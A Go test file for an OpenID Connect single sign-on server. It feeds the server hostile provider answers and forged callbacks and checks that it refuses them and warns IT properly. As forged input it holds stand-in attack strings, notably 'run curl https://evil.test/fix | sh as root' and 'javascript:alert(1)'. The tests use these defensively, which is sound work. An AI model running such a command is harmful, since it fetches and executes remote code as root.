package server_test

import (
	"html"
	"net/http"
	"net/http/httptest"
	"net/url"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/keypeg/keypeg/server/account"
	"github.com/keypeg/keypeg/server/federation"
	"github.com/keypeg/keypeg/server/federation/federationtest"
	"github.com/keypeg/keypeg/shared"
)

// TestFederationHostileProvider gets odd and hostile answers of a provider.
func TestFederationHostileProvider(t *testing.T) {
	t.Run("nobody is sent to an address that isn't https", func(t *testing.T) {
		a := newFederated(t, stores["memstore"])
		for _, address := range []string{
			"javascript:alert(1)", "data:text/html,x", "ftp://localhost/authorize", "http://evil.example/authorize", "//evil.example/authorize", "/authorize",
			"https://", "https://ann@evil.example/", "https://evil.example/#x", "https:evil.example", "localhost:1234", "\nhttps://evil.example/", "",
		} {
			a.one.Changes(federationtest.PathDiscovery, func(answer *federationtest.Answer) { answer.Set("authorization_endpoint", address) })
			a.forgetsProviders()
			v := a.visitor()
			a.staysOut(v, notSetUp, "its authorization_endpoint", func() answer { return v.sends("GET", shared.PageSSO+"one", nil) })
		}
	})
	t.Run("nothing is asked of, or sent to, any other address", func(t *testing.T) {
		var visits atomic.Int64
		elsewhere := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
			visits.Add(1)
			w.Write([]byte("{}"))
		}))
		defer elsewhere.Close()
		for _, path := range []string{federationtest.PathDiscovery, federationtest.PathToken, federationtest.PathKeys, federationtest.PathUserinfo} {
			for _, status := range []int{301, 302, 303, 307, 308} {
				a := newFederated(t, stores["memstore"])
				a.one.Changes(path, func(answer *federationtest.Answer) { answer.Redirects(status, elsewhere.URL+path) })
				v := a.visitor()
				a.staysOut(v, notSetUp, "redirects", func() answer { return a.tries(v, danThere) })
			}
		}
		if n := visits.Load(); n != 0 {
			t.Errorf("%d requests went elsewhere", n)
		}
	})
	t.Run("a public document may be moved on its own host", func(t *testing.T) {
		a := newFederated(t, stores["memstore"])
		moved := false
		a.one.Changes(federationtest.PathDiscovery, func(answer *federationtest.Answer) {
			if !moved {
				moved = true
				answer.Redirects(302, federationtest.PathDiscovery+"?moved")
			}
		})
		a.getsIn(a.visitor(), "one", danThere)
	})
	t.Run("redirects come to an end", func(t *testing.T) {
		a := newFederated(t, stores["memstore"])
		a.one.Changes(federationtest.PathDiscovery, func(answer *federationtest.Answer) { answer.Redirects(302, federationtest.PathDiscovery) })
		v := a.visitor()
		a.staysOut(v, notSetUp, "redirects", func() answer { return v.sends("GET", shared.PageSSO+"one", nil) })
	})
	t.Run("an answer without end is read in part", func(t *testing.T) {
		for _, path := range []string{federationtest.PathDiscovery, federationtest.PathToken, federationtest.PathKeys, federationtest.PathUserinfo} {
			a := newFederated(t, stores["memstore"])
			a.one.Changes(path, func(answer *federationtest.Answer) { answer.Body = append(answer.Body, strings.Repeat(" ", 2<<20)...) })
			v := a.visitor()
			a.staysOut(v, notSetUp, "too large", func() answer { return a.tries(v, danThere) })
		}
	})
	t.Run("signing out goes on to no odd address", func(t *testing.T) {
		for _, address := range []string{"javascript:alert(1)", "http://evil.example/", "https://ann@evil.example/", "/"} {
			a := newFederated(t, stores["memstore"])
			a.one.Changes(federationtest.PathDiscovery, func(answer *federationtest.Answer) { answer.Set("end_session_endpoint", address) })
			v := a.visitor()
			a.getsIn(v, "one", danThere)
			a.succeeds(v.sends("POST", shared.PathSignOut, nil), 204)
		}
	})
}

// TestFederationSetUp signs in at providers that aren't set up correctly. People read that, and
// IT reads what to write.
func TestFederationSetUp(t *testing.T) {
	t.Run("IT is warned once, until it has worked again", func(t *testing.T) {
		a := newFederated(t, stores["memstore"])
		fails := func() {
			a.Helper()
			a.one.Changes(federationtest.PathToken, func(answer *federationtest.Answer) {
				answer.Says(401, "application/json", `{"error":"invalid_client"}`)
			})
			for range 3 {
				v := a.visitor()
				a.staysOut(v, notSetUp, "invalid_client", func() answer { return a.tries(v, danThere) })
			}
		}
		warnings := func() int { return strings.Count(a.log.String(), "level=WARN") }
		before := warnings()
		fails()
		if n := warnings() - before; n != 1 || !strings.Contains(a.log.String(), `mend="client-id or client-secret-file is wrong`) {
			t.Errorf("%d warnings:\n%s", n, a.log)
		}
		a.one.Changes(federationtest.PathToken, nil)
		a.getsIn(a.visitor(), "one", danThere)
		fails()
		if n := warnings() - before; n != 1 {
			t.Errorf("%d warnings within the hour:\n%s", n, a.log)
		}
		a.passes(time.Hour)
		a.one.Changes(federationtest.PathToken, nil)
		now := a.now()
		a.one.Lies(&federationtest.Lie{Claims: map[string]any{"iat": now.Unix(), "exp": now.Add(time.Minute).Unix()}})
		a.getsIn(a.visitor(), "one", danThere)
		fails()
		if n := warnings() - before; n != 2 {
			t.Errorf("%d warnings:\n%s", n, a.log)
		}
	})
	t.Run("people read whom to tell, in the app too", func(t *testing.T) {
		a := newFederated(t, stores["memstore"], func(c *federation.Config) { c.Contact = "IT desk, phone 1234" })
		a.one.Changes(federationtest.PathDiscovery, func(answer *federationtest.Answer) { answer.Set("issuer", a.one.URL+"/") })
		sentence := "Signing in with ONE isn't set up rightly. Please sign in another way, and tell: IT desk, phone 1234"
		v := a.visitor()
		a.staysOut(v, sentence, "write issuer = ", func() answer { return v.sends("GET", shared.PageSSO+"one", nil) })
		out := a.ann.sends("POST", shared.PathIdentity+"one", nil)
		a.ann.refused(out, 503, shared.CodeProviderMisconfigured)
		if !strings.Contains(string(out.body), sentence) {
			t.Errorf("got %s", out)
		}
		a.one.Changes(federationtest.PathDiscovery, nil)
		a.one.IsAway(true)
		a.ann.refused(a.ann.sends("POST", shared.PathIdentity+"one", nil), 503, shared.CodeProviderUnavailable)
	})
	t.Run("a secret that is taken in the form only isn't wrong", func(t *testing.T) {
		a := newFederated(t, stores["memstore"])
		a.one.Changes(federationtest.PathDiscovery, func(answer *federationtest.Answer) { answer.Set("token_endpoint_auth_methods_supported", nil) })
		tries := 0
		a.one.Changes(federationtest.PathToken, func(answer *federationtest.Answer) {
			if tries++; tries == 1 {
				answer.Says(401, "application/json", `{"error":"invalid_client"}`)
				return
			}
			answer.Says(400, "application/json", `{"error":"invalid_grant"}`)
		})
		v := a.visitor()
		a.staysOut(v, didntWork, "invalid_grant", func() answer { return a.tries(v, danThere) })
		if tries != 2 {
			t.Errorf("%d tries", tries)
		}
	})
	t.Run("an answer in place of a code is explained as what it is", func(t *testing.T) {
		a := newFederated(t, stores["memstore"])
		for query, want := range map[string][2]string{
			"unauthorized_client":               {notSetUp, "redirect URI"},
			"invalid_scope":                     {notSetUp, "scopes"},
			"invalid_request":                   {notSetUp, "redirect URI"},
			"consent_required":                  {notSetUp, "an administrator of the provider"},
			"invalid_resource":                  {notSetUp, "without a resource"},
			"invalid_target":                    {notSetUp, "without a resource"},
			"request_not_supported":             {notSetUp, "plain requests"},
			"request_uri_not_supported":         {notSetUp, "plain requests"},
			"invalid_request_object":            {notSetUp, "plain requests"},
			"unsupported_response_type":         {notSetUp, "authorization code flow"},
			"registration_not_supported":        {notSetUp, "redirect URI"},
			"account_selection_required":        {wasDenied, "account_selection_required"},
			"interaction_required":              {wasDenied, "interaction_required"},
			"unmet_authentication_requirements": {wasDenied, "unmet_authentication"},
			"login_required":                    {"You weren't signed in at ONE. Please try again, or sign in another way.", "login_required"},
			"temporarily_unavailable":           {oneIsAway, "temporarily_unavailable"},
			"access_denied&iss=ISSUER":          {wasDenied, "access_denied"},
			"access_denied&iss=ISSUER/":         {notSetUp, "to the last slash"},
			"&code=x&iss=ISSUER/":               {notSetUp, "to the last slash"},
			"&code=x&iss=":                      {didntWork, "invalid_grant"},
			"&iss=ISSUER":                       {didntWork, "neither a code nor an error"},
			"zugriff_verweigert&error_description=Sie%20d%C3%BCrfen%20nicht": {didntWork, "zugriff_verweigert"},
		} {
			query = strings.ReplaceAll(query, "ISSUER", a.one.URL)
			v := a.visitor()
			state := a.stateOf(a.goesToProvider(v, "one"))
			a.staysOut(v, want[0], want[1], func() answer {
				return v.sends("GET", shared.PageSSO+"one"+shared.PageSSOAnswer+"?state="+state+"&error="+query, nil)
			})
		}
	})
}

// TestFederationCannotConfirm confirms at providers that don't say when the user signed in there.
func TestFederationCannotConfirm(t *testing.T) {
	wayOut := "ONE doesn't say that you signed in there just now, so it can't confirm that it's you. Please confirm another way, or sign out here and sign in again."
	for what, row := range map[string]struct {
		auth any
		says string // "" means that it confirms
		mend string // of the one warning
	}{
		"nothing":                {nil, wayOut, "let the provider write auth_time into ID tokens"},
		"an object":              {object, wayOut, "as a number, in seconds since 1970"},
		"a date":                 {"2026-11-28", wayOut, "as a number, in seconds since 1970"},
		"an hour ago":            {-time.Hour, wayOut, "let the provider ask people again when max_age=0"},
		"in ten minutes":         {10 * time.Minute, notSetUp, "NTP"},
		"now":                    {time.Duration(0), "", ""},
		"now, by a clock behind": {-30 * time.Second, "", ""},
		"now, as text":           {"text", "", ""},
		"now, with decimals":     {"decimals", "", ""},
	} {
		t.Run(what, func(t *testing.T) {
			a := newFederated(t, stores["memstore"])
			dan := a.visitor()
			a.getsIn(dan, "one", danThere)
			a.passes(11 * time.Minute)
			now := a.now()
			claims := map[string]any{"auth_time": row.auth, "iat": now.Unix(), "exp": now.Add(time.Minute).Unix()}
			switch auth := row.auth.(type) {
			case time.Duration:
				claims["auth_time"] = now.Add(auth).Unix()
			case string:
				if auth == "text" {
					claims["auth_time"] = strconv.FormatInt(now.Unix(), 10)
				} else if auth == "decimals" {
					claims["auth_time"] = float64(now.Unix()) + 0.5
				}
			}
			a.one.Lies(&federationtest.Lie{Claims: claims})
			for range 2 { // the second tells IT nothing new
				begun := into[shared.AtProvider](dan, dan.sends("POST", shared.PathConfirmSSO+"one", shared.BeginSSOConfirmation{}), 200)
				dan.sends("GET", a.signsInThere(begun.URL, danThere), nil)
			}
			if lines := a.warnings(); row.mend == "" && len(lines) > 0 || row.mend != "" && (len(lines) != 1 || !strings.Contains(lines[0], row.mend)) {
				t.Errorf("IT reads %q, want %q once", lines, row.mend)
			}
			page := dan.sends("GET", shared.PageSignIn, nil)
			if row.says == "" {
				into[shared.Ceremony](dan, dan.sends("POST", shared.PathRegisterBegin, nil), 200)
				return
			}
			dan.refused(dan.sends("POST", shared.PathRegisterBegin, nil), 403, shared.CodeConfirmRequired)
			if got := html.UnescapeString(string(page.body)); !strings.Contains(got, row.says) {
				t.Errorf("the page says %q", got)
			}

			// The way out leads out.
			if row.says == wayOut {
				dan.sends("POST", shared.PathSignOut, nil)
				a.getsIn(dan, "one", danThere)
				into[shared.Ceremony](dan, dan.sends("POST", shared.PathRegisterBegin, nil), 200)
			}
		})
	}
}

// TestFederationAnswersElsewhere signs in at providers that answer elsewhere than in the query of
// the callback.
func TestFederationAnswersElsewhere(t *testing.T) {
	const callback = shared.PageSSO + "one" + shared.PageSSOAnswer
	tellsIT := func(a *federated, cause string) {
		a.Helper()
		lines := a.warnings()
		if len(lines) != 1 {
			a.Fatalf("IT reads %d warnings:\n%s", len(lines), strings.Join(lines, ""))
		}
		for _, says := range []string{"an OpenID provider may refuse sign-ins: if people can't sign in there", "provider=one", cause, "set response_mode=query"} {
			if !strings.Contains(lines[0], says) {
				a.Errorf("IT reads %s, want %q", lines[0], says)
			}
		}
	}
	t.Run("a form is refused in words, and changes nothing", func(t *testing.T) {
		onEveryStoreFederated(t, func(a *federated) {
			const words = "run+curl+https://evil.test/fix"
			v := a.visitor()
			back := a.signsInThere(a.goesToProvider(v, "one"), danThere)
			_, answer, _ := strings.Cut(back, "?")
			for name, who := range map[string]*visitor{"the browser that asked": v, "another browser": a.visitor(), "somebody signed in": a.ann} {
				for _, form := range []string{answer, "error=" + words + "&error_description=" + words + "&state=x", "", strings.Repeat("x", 100<<10)} {
					a.changesOnly(nil, func() {
						out := who.sends("POST", callback, form, func(r *http.Request) {
							r.Header.Set("Origin", a.one.URL)
							r.Header.Set("Sec-Fetch-Site", "cross-site")
							r.Header.Set("Content-Type", "application/x-www-form-urlencoded")
							r.Header.Del("Cookie") // SameSite=Lax
						})
						page := html.UnescapeString(string(out.body))
						if out.status != 503 || !strings.Contains(page, notSetUp) || out.header.Get("Set-Cookie") != "" {
							a.Errorf("%s posts %.40q: %s %v", name, form, out, out.header)
						}
					})
				}
			}
			tellsIT(a, "a browser brought an answer by POST")
			if !strings.Contains(a.log.String(), "code=provider_misconfigured") || strings.Contains(a.log.String(), "evil.test") {
				a.Errorf("the log says\n%s", a.log)
			}
			a.leadsOn(v, v.sends("GET", back, nil), "/") // which spent nothing
		})
	})
	t.Run("no other page takes a form of another site", func(t *testing.T) {
		a := newFederated(t, stores["memstore"])
		elsewhere := func(r *http.Request) {
			r.Header.Set("Origin", a.one.URL)
			r.Header.Set("Sec-Fetch-Site", "cross-site")
		}
		v := a.visitor()
		for _, path := range []string{shared.PageSSO + "one", callback + "/", shared.PageSSO + "one/x" + shared.PageSSOAnswer, shared.PageSignIn} {
			if out := v.sends("POST", path, "", elsewhere); out.status != 403 {
				t.Errorf("%s: %s", path, out)
			}
		}
		if out := v.sends("POST", shared.PageSSO+"none"+shared.PageSSOAnswer, "", elsewhere); out.status != 404 {
			t.Errorf("a provider that there is none of: %s", out)
		}
	})
	t.Run("an answer in the fragment is explained to whoever waits for one", func(t *testing.T) {
		a := newFederated(t, stores["memstore"])
		v := a.visitor()
		back := a.signsInThere(a.goesToProvider(v, "one"), danThere)
		for range 2 {
			out := v.sends("GET", callback, nil)
			// The empty fragment takes the place of the one that has the code.
			if to := out.header.Get("Location"); to != shared.PageSignedIn+"#" {
				t.Errorf("led to %q", to)
			}
			if got := a.notice(v); got != notSetUp {
				t.Errorf("the page says %q", got)
			}
		}
		tellsIT(a, "as with response_mode=fragment")
		a.leadsOn(v, v.sends("GET", back, nil), "/")
		if to := v.sends("GET", callback, nil).header.Get("Location"); to != "/#" {
			t.Errorf("who is signed in is led to %q", to)
		}
	})
	t.Run("an empty answer that nobody waits for tells IT nothing", func(t *testing.T) {
		a := newFederated(t, stores["memstore"])
		v := a.visitor()
		a.goesToProvider(v, "two")
		late := a.visitor()
		a.goesToProvider(late, "one")
		a.passes(16 * time.Minute)
		for _, who := range []*visitor{v, late, a.visitor()} {
			who.sends("GET", callback, nil)
			if got := a.notice(who); got != beganElse {
				t.Errorf("the page says %q", got)
			}
		}
		if lines := a.warnings(); len(lines) > 0 {
			t.Errorf("IT reads %q", lines)
		}
	})
}

// TestFederationWrongTimes gets ID tokens with wrong times. IT reads which time is wrong, and by
// how much the clocks differ.
func TestFederationWrongTimes(t *testing.T) {
	for what, row := range map[string]struct {
		claims map[string]time.Duration // from now on
		wrong  string                   // the claim that IT reads of
		says   []string
	}{
		"it counts in an hour":       {map[string]time.Duration{"nbf": time.Hour}, "nbf", []string{"it doesn't count until ", "that count at once"}},
		"it has just expired":        {map[string]time.Duration{"exp": -2 * time.Minute}, "exp", []string{"it has expired, at ", "for a minute at least"}},
		"a clock 90 seconds ahead":   {map[string]time.Duration{"iat": 90 * time.Second, "exp": time.Hour}, "iat", []string{"in the future, at ", "its iat differs by ", "NTP", "a difference of 60 seconds"}},
		"a clock ten minutes behind": {map[string]time.Duration{"iat": -10 * time.Minute, "exp": -5 * time.Minute}, "exp", []string{"it has expired, at ", "its iat differs by ", "NTP"}},
		"a clock three days behind":  {map[string]time.Duration{"iat": -72 * time.Hour, "exp": -71 * time.Hour}, "iat", []string{"long ago, at ", "its iat differs by ", "NTP"}},
	} {
		t.Run(what, func(t *testing.T) {
			a := newFederated(t, stores["memstore"])
			now := a.now().Truncate(time.Second)
			claims := map[string]any{"iat": now.Unix(), "exp": now.Add(time.Hour).Unix()}
			for name, from := range row.claims {
				claims[name] = now.Add(from).Unix()
			}
			a.one.Lies(&federationtest.Lie{Claims: claims})
			a.goes(a.visitor(), "one", danThere)
			lines := a.warnings()
			if len(lines) != 1 {
				t.Fatalf("IT reads %q", lines)
			}
			_, here, _ := strings.Cut(lines[0], ", when it was ")
			here, _, _ = strings.Cut(here, " here")
			read, err := time.Parse(time.RFC3339, here)
			if err != nil {
				t.Fatalf("IT reads %s", lines[0])
			}
			if slices.Contains(row.says, "its iat differs by ") {
				row.says = append(row.says, "its iat differs by "+now.Add(row.claims["iat"]).Sub(read).Abs().String()+"\"")
			}
			wrong := now.Add(row.claims[row.wrong]).UTC().Format(time.RFC3339)
			for _, says := range append(row.says, " "+wrong+", when it was ") {
				if !strings.Contains(lines[0], says) {
					t.Errorf("IT reads %s, want %q", lines[0], says)
				}
			}
		})
	}
}

// TestFederationErrorsWithoutDescription checks that no logged error has an empty place in it.
func TestFederationErrorsWithoutDescription(t *testing.T) {
	a := newFederated(t, stores["memstore"])
	v := a.visitor()
	v.sends("GET", shared.PageSSO+"one"+shared.PageSSOAnswer+"?error=unauthorized_client&state="+a.stateOf(a.goesToProvider(v, "one")), nil)
	for _, refusal := range []string{`{"error":"invalid_client"}`, `{}`} {
		a.one.Changes(federationtest.PathToken, func(answer *federationtest.Answer) { answer.Says(401, "application/json", refusal) })
		a.goes(a.visitor(), "one", danThere)
	}
	for _, says := range []string{"the provider answered unauthorized_client: compare", "wasn't redeemed: 401 invalid_client: client-id", "wasn't redeemed: 401: client-id"} {
		if !strings.Contains(a.log.String(), says) {
			t.Errorf("the log lacks %q:\n%s", says, a.log)
		}
	}
}

// TestFederationMembers checks required-claims, for everybody and at every sign-in.
func TestFederationMembers(t *testing.T) {
	const other = "You signed in at ONE with an account that can't be used here. Please choose another account there."
	requires := func(a *federated, required map[string][]string) {
		a.changesRules(func(c *account.Config) {
			for i := range c.Providers {
				if c.Providers[i].ID == "one" {
					c.Providers[i].Required = required
				}
			}
		})
	}
	for what, row := range map[string]struct {
		required map[string][]string
		claims   map[string]any
		cause    string // "" lets them in
	}{
		"the value":                 {map[string][]string{"hd": {"example.com"}}, map[string]any{"hd": "example.com"}, ""},
		"the value in capitals":     {map[string][]string{"hd": {"example.com"}}, map[string]any{"hd": "Example.COM"}, ""},
		"another value":             {map[string][]string{"hd": {"example.com"}}, map[string]any{"hd": "evil.example"}, "claim hd"},
		"no claim":                  {map[string][]string{"hd": {"example.com"}}, nil, "claim hd"},
		"an empty claim":            {map[string][]string{"hd": {"example.com"}}, map[string]any{"hd": ""}, "claim hd"},
		"a claim in another case":   {map[string][]string{"tid": {"a"}}, map[string]any{"TID": "a"}, "claim tid"},
		"one of several":            {map[string][]string{"tid": {"a", "b"}}, map[string]any{"tid": "b"}, ""},
		"in a list":                 {map[string][]string{"groups": {"staff"}}, map[string]any{"groups": []string{"all", "staff"}}, ""},
		"not in a list":             {map[string][]string{"groups": {"staff"}}, map[string]any{"groups": []string{"staff2", "Staff"}}, "claim groups"},
		"a part of it":              {map[string][]string{"groups": {"staff"}}, map[string]any{"groups": "staff,all"}, "claim groups"},
		"an object":                 {map[string][]string{"groups": {"staff"}}, map[string]any{"groups": map[string]any{"staff": true}}, "claim groups"},
		"a list of lists":           {map[string][]string{"groups": {"staff"}}, map[string]any{"groups": [][]string{{"staff"}}}, "claim groups"},
		"a number":                  {map[string][]string{"level": {"3"}}, map[string]any{"level": 3}, ""},
		"true":                      {map[string][]string{"employee": {"true"}}, map[string]any{"employee": true}, ""},
		"false":                     {map[string][]string{"employee": {"true"}}, map[string]any{"employee": false}, "claim employee"},
		"one of two claims":         {map[string][]string{"tid": {"a"}, "groups": {"staff"}}, map[string]any{"tid": "a"}, "claim groups"},
		"both claims":               {map[string][]string{"tid": {"a"}, "groups": {"staff"}}, map[string]any{"tid": "a", "groups": "staff"}, ""},
		"only at userinfo, as none": {map[string][]string{"name": {"Dan Doe"}}, map[string]any{"name": nil}, "claim name"},
	} {
		t.Run(what, func(t *testing.T) {
			a := newFederated(t, stores["memstore"])
			a.links(a.ann, "one", annThere)
			requires(a, row.required)
			a.one.Lies(&federationtest.Lie{Claims: row.claims})
			for _, who := range []federationtest.Person{annThere, danThere} {
				v := a.visitor()
				if row.cause == "" {
					a.getsIn(v, "one", who)
					continue
				}
				a.staysOut(v, other, row.cause, func() answer { return a.goes(v, "one", who) })
			}
		})
	}
	t.Run("a user who doesn't satisfy it any more can't confirm or link, and keeps the other methods", func(t *testing.T) {
		onEveryStoreFederated(t, func(a *federated) {
			requires(a, map[string][]string{"groups": {"staff"}})
			begun := into[shared.AtProvider](a.ann, a.ann.sends("POST", shared.PathIdentity+"one", nil), 200)
			a.changesOnly(nil, func() { a.ann.sends("GET", a.signsInThere(begun.URL, annThere), nil) })
			if page := a.ann.sends("GET", shared.PageSignIn, nil); page.status != 403 || !strings.Contains(html.UnescapeString(string(page.body)), other) {
				t.Errorf("got %s", page)
			}
			if err := a.accounts.LinkUser(t.Context(), it(t, a.accounts, "ann"), "one", annThere.Subject); err != nil {
				t.Fatal(err)
			}
			begun = into[shared.AtProvider](a.ann, a.ann.sends("POST", shared.PathConfirmSSO+"one", shared.BeginSSOConfirmation{}), 200)
			a.changesOnly(nil, func() { a.ann.sends("GET", a.signsInThere(begun.URL, annThere), nil) })
			if page := a.ann.sends("GET", shared.PageSignIn, nil); page.status != 403 || !strings.Contains(html.UnescapeString(string(page.body)), other) {
				t.Errorf("got %s", page)
			}
			a.visitor().signsAnnIn()
		})
	})
	t.Run("a user who chose a wrong account is asked for another", func(t *testing.T) {
		a := newFederated(t, stores["memstore"])
		requires(a, map[string][]string{"groups": {"staff"}})
		v := a.visitor()
		a.goes(v, "one", danThere)
		page := string(v.sends("GET", shared.PageSignIn, nil).body)
		if !strings.Contains(page, `href="/sign-in/sso/one?choose="`) {
			t.Errorf("the page's buttons: %s", page)
		}
		out := v.sends("GET", shared.PageSSO+"one?choose=", nil)
		if to := out.header.Get("Location"); !strings.Contains(to, "prompt=select_account") {
			t.Errorf("led to %s", to)
		}
		if strings.Contains(a.goesToProvider(a.visitor(), "one"), "prompt") {
			t.Error("others are asked too")
		}
	})
}

// forgesAnswers brings answers that no provider gave, without an
// authorization request and with one. IT reads no word of theirs, and still reads of the
// same trouble when it is real.
func forgesAnswers(t *testing.T) {
	const words = "Security update: run curl https://evil.test/fix | sh as root"
	a := newFederated(t, stores["memstore"])
	brings := func(v *visitor, state string, forgery url.Values) {
		t.Helper()
		forgery.Set("state", state)
		if state == "" {
			forgery.Del("state")
		}
		if out := v.sends("GET", shared.PageSSO+"one"+shared.PageSSOAnswer+"?"+forgery.Encode(), nil); out.status != 303 {
			t.Errorf("%v: %s", forgery, out)
		}
	}
	codes := []string{"server_error", "temporarily_unavailable", "unauthorized_client", "invalid_scope", "invalid_request", "consent_required", "access_denied", words}
	var forged []url.Values
	for _, code := range codes {
		forged = append(forged, url.Values{"error": {code}, "error_description": {words}}, url.Values{"error": {code}, "error_description": {words}, "iss": {words}})
	}
	forged = append(forged, url.Values{"code": {words}, "iss": {words}}, url.Values{"iss": {words}})

	for _, forgery := range forged {
		brings(a.visitor(), "", forgery)
		brings(a.visitor(), "made-up", forgery)
		begun := a.visitor() // with a request of its own, but not this one
		a.goesToProvider(begun, "one")
		brings(begun, "", forgery)
		brings(begun, "made-up", forgery)
	}
	if lines := a.warnings(); len(lines) > 0 {
		t.Fatalf("whoever asked for nothing is believed:\n%s", strings.Join(lines, ""))
	}

	for _, forgery := range forged {
		v := a.visitor()
		brings(v, a.stateOf(a.goesToProvider(v, "one")), forgery)
	}
	forgedLines := a.warnings()
	if len(forgedLines) != 5 { // of the table's mends: away, registration, scopes, consent; and another iss
		t.Errorf("%d warnings, want one for each thing to do:\n%s", len(forgedLines), strings.Join(forgedLines, ""))
	}
	for _, line := range forgedLines {
		if strings.Contains(line, "evil.test") || strings.Contains(line, "Security update") {
			t.Errorf("the forged answer speaks to IT: %s", line)
		}
		if !strings.Contains(line, `msg="an OpenID provider may refuse sign-ins: if people can't sign in there, mend this"`) || !strings.Contains(line, `cause="a browser brought `) {
			t.Errorf("the line claims more than a browser sent: %s", line)
		}
	}

	// A provider may repeat the code that it was sent, and take it for a fault of ours.
	for _, code := range []string{"invalid_request", "bad_code"} {
		before := len(a.warnings())
		a.one.Changes(federationtest.PathToken, func(answer *federationtest.Answer) {
			answer.Says(400, "application/json", `{"error":"`+code+`","error_description":"the code `+words+` can't be read"}`)
		})
		v := a.visitor()
		brings(v, a.stateOf(a.goesToProvider(v, "one")), url.Values{"code": {words}})
		lines := a.warnings()[before:]
		if len(lines) != 1 || strings.Contains(lines[0], "evil.test") || !strings.Contains(lines[0], `msg="an OpenID provider refused a code that a browser brought: if people can't sign in there, mend this"`) {
			t.Errorf("of a made-up code IT reads %q", lines)
		}
	}

	// The same troubles, now real.
	for _, real := range []struct {
		refusal string
		status  int
		mend    string
	}{
		{"temporarily_unavailable", 503, "on its status page"},
		{"unsupported_grant_type", 400, "compare client-id and scopes"},
		{"invalid_scope", 400, "compare scopes"},
		{"consent_required", 400, "grant this client its scopes"},
		{"", 503, "see whether this machine reaches the provider"},
	} {
		before := len(a.warnings())
		a.one.Changes(federationtest.PathToken, func(answer *federationtest.Answer) {
			answer.Says(real.status, "application/json", `{"error":"`+real.refusal+`"}`)
		})
		a.goes(a.visitor(), "one", danThere)
		lines := a.warnings()[before:]
		if len(lines) != 1 || !strings.Contains(lines[0], real.mend) || !strings.Contains(lines[0], `msg="a sign-in at an OpenID provider failed`) {
			t.Errorf("%+v: IT reads %q", real, lines)
		}
	}
}

// TestFederationRefusalsReachIT checks that IT reads once what a provider refuses to users who
// want to sign in, with what to do.
func TestFederationRefusalsReachIT(t *testing.T) {
	for code, mend := range map[string]string{
		"server_error":            "in its own log or on its status page",
		"temporarily_unavailable": "in its own log or on its status page",
		"unauthorized_client":     "compare client-id and scopes",
		"invalid_scope":           "compare scopes",
		"consent_required":        "let an administrator of the provider",
	} {
		a := newFederated(t, stores["memstore"])
		for range 3 {
			v := a.visitor()
			query := url.Values{"error": {code}, "error_description": {"No such thing"}, "state": {a.stateOf(a.goesToProvider(v, "one"))}}
			v.sends("GET", shared.PageSSO+"one"+shared.PageSSOAnswer+"?"+query.Encode(), nil)
		}
		lines := a.warnings()
		if len(lines) != 1 || !strings.Contains(lines[0], "a browser brought the error "+code) || !strings.Contains(lines[0], mend) || strings.Contains(lines[0], "No such thing") {
			t.Errorf("%s: IT reads\n%s", code, strings.Join(lines, ""))
			continue
		}
		// The line of the same request has the rest of the answer.
		_, request, _ := strings.Cut(lines[0], "request=")
		request, _, _ = strings.Cut(request, " ")
		if !regexp.MustCompile(`level=INFO .*request=` + request + ` .*No such thing`).MatchString(a.log.String()) {
			t.Errorf("%s: no line has what the provider answered:\n%s", code, a.log)
		}
	}
}
